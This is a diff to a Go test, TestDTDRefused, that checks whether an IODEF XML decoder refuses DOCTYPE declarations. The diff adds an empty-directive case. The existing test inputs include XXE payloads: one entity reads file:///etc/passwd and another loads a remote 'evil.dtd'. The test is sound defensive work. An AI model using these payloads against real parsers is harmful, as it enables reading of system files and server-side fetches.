@@ -586,6 +586,7 @@ func TestDTDRefused(t *testing.T) {
 		"external entity":  `<!DOCTYPE IODEF-Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
 		"parameter entity": `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>`,
 		"plain":            `<!DOCTYPE IODEF-Document>`,
+		"empty directive":  `<! >`,
 	} {
 		t.Run(name, func(t *testing.T) {
 			doc, err := decode("dtd.xml", []byte("<?xml version=\"1.0\"?>\n"+dtd+"\n"+incident), tlpAndTaxonomy)
